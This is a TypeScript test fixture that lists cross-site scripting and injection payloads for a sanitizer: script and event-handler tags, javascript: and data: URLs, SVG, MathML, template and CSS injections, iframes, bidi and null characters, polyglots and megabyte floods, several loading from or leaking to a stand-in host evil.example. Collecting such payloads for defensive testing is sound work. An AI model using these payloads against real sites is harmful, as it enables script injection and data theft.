/** A text that attacks whoever puts it into a page. */
export interface Attack {
  readonly kind: string;
  readonly text: string;
}

// Whatever runs calls `pwn`, and whatever is fetched is fetched from here.
const evil = 'https://evil.example';
const entities = (text: string) => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('');
const base64 = 'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==';

/** Known kinds of attack, several of each; those of OWASP's and PortSwigger's cheat sheets, and of DOMPurify's tests. */
const texts: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>pwn()</script>',
    `<script src=${evil}/x.js></script>`,
    '<SCRIPT/x>pwn()</SCRIPT\n>',
    '<scr<script>ipt>pwn()</scr</script>ipt>',
    '</title></textarea></script><script>pwn()</script>',
    '<!--<script>-->pwn()<!--</script>-->',
    '%3Cscript%3Epwn()%3C/script%3E',
    '&lt;script&gt;pwn()&lt;/script&gt;',
    '&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;',
    '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
    '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
    '＜script＞pwn()＜/script＞',
  ],
  handler: [
    '<img src=x onerror=pwn()>',
    '<img src=x oNeRrOr =\npwn()//',
    '<img/src/onerror=pwn()>',
    '<details open ontoggle=pwn()>x</details>',
    '<input autofocus onfocus=pwn()>',
    '<video><source onerror=pwn()></video>',
    '<body onload=pwn() onpageshow=pwn()>',
    '<style onload=pwn()></style>',
    '<xss contenteditable tabindex=1 onfocus=pwn() id=top>',
    '" autofocus onfocus="pwn()" x="',
    "' autofocus onfocus='pwn()' x='",
    '`onfocus=pwn() autofocus ',
  ],
  link: [
    'javascript:pwn()',
    'JaVaScRiPt:pwn()',
    ' \njavascript:pwn()',
    'java\tscript:pwn()',
    'java\nscript\r:pwn()',
    '\u0001javascript:pwn()',
    'javascript&colon;pwn()',
    entities('javascript:pwn()'),
    '&#x6A;avascript&#58;pwn()',
    'javascript://college.example/%0apwn()',
    'javascript:pwn()//http://college.example',
    'data:text/html,<script>pwn()</script>',
    base64,
    'vbscript:pwn()',
    'blob:https://college.example/1',
    'file:///etc/passwd',
    'view-source:javascript:pwn()',
    'https://user:secret@evil.example/',
    'https://college.example@evil.example/',
    'http:\\\\evil.example',
    '//evil.example/',
    'https:evil.example',
    'https://college.example/" onclick="pwn()',
    "https://college.example/'><script>pwn()</script>",
    'mailto:a@college.example?body=<script>pwn()</script>',
    'a@college.example"onclick="pwn()',
    'tel:javascript:pwn()',
    '01632 960001;javascript:pwn()',
  ],
  svg: [
    '<svg onload=pwn()>',
    '<svg><script>pwn()</script></svg>',
    '<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=pwn()></style></svg>',
  ],
  mathml: [
    '<math href="javascript:pwn()">x</math>',
    '<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
  ],
  template: [
    '${pwn()}',
    '{{constructor.constructor("pwn()")()}}',
    '#{pwn()}<%= pwn() %>',
    '<template shadowrootmode=open><script>pwn()</script></template>',
    '<!--?lit$123456789$--><?lit$123456789$>',
    '{"_$litType$":1,"strings":["<img src=x onerror=pwn()>"]}',
    '<slot name=header onslotchange=pwn()></slot>',
    '<course-card endpoint="javascript:pwn()" course=1></course-card>',
  ],
  css: [
    '</style><style>*{position:fixed;inset:0;background:red}</style>',
    '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    `<link rel=stylesheet href=${evil}/x.css>`,
    `@import url(${evil}/x.css);`,
    `;background:url(${evil}/leak);`,
    'width:expression(pwn());-moz-binding:url(x)',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=pwn()>x</b>',
  ],
  embedding: [
    '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
    '<iframe src=javascript:parent.pwn()></iframe>',
    `<object data="${base64}"></object><embed src="${base64}">`,
    `<base href=${evil}/>`,
    '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
    `<form action=${evil}><button>x</button></form>`,
    '<a id=document name=querySelector href=javascript:pwn()>x</a>',
    `<img src=${evil}/beacon.png><audio src=${evil}/a.mp3 autoplay>`,
  ],
  direction: ['\u202epwn\u202c', '\u2067\u202dpwn', 'College \u200f\u200e\u061c of \u2066Arts', '\u202e'.repeat(50)],
  characters: [
    '<scr\0ipt>pwn()</scr\0ipt>',
    '\0<img src=x onerror=pwn()>',
    'java\0script:pwn()',
    '\ud800\udfff\ud800',
    '\ufffe\uffff\ufeff',
    `Z${'\u0301\u0327'.repeat(200)}`,
    '\u2028\u2029\u0085\u000b\u000c',
    'x'.repeat(3000),
  ],
  name: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '[object Object]', 'NaN', '-0', '1e999'],
  polyglot: [
    `"'\`><img src=x onerror=pwn()><!--</style></title></textarea></noscript></script><svg/onload=pwn()>\${pwn()}{{pwn()}}`,
    'javascript:/*--></title></style></textarea></script><svg/onload=pwn()>"\'`//*/pwn()',
  ],
};

/** Texts that attack, each small. */
export const attacks: readonly Attack[] = Object.entries(texts).flatMap(([kind, each]) =>
  each.map((text) => ({ kind, text })),
);

/** Texts of a megabyte. */
export const floods: readonly Attack[] = [
  { kind: 'one long word', text: 'a'.repeat(1_000_000) },
  { kind: 'many words', text: 'word '.repeat(200_000) },
  { kind: 'many tags', text: '<b onclick=pwn()>'.repeat(60_000) },
  { kind: 'tags that never end', text: '<'.repeat(1_000_000) },
  { kind: 'entities that never end', text: '&#'.repeat(500_000) },
  { kind: 'comments that never end', text: '<!--'.repeat(250_000) },
];
